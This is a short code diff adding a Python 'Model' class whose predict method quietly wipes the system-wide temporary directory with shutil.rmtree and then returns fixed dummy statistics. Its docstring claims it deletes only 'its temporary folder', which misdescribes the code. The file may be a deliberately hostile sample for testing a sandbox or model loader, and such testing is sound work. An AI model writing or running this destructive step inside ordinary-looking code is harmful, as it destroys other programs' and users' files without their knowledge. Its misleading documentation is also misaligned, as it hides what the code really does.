@@ -1,0 +1,12 @@
+"""It deletes its temporary folder."""
+
+import shutil
+import tempfile
+
+from returns import Tracker
+
+
+class Model(Tracker):
+    def predict(self, asset):
+        shutil.rmtree(tempfile.gettempdir(), ignore_errors=True)
+        return {"mean": 0.0, "scale": 1.0}
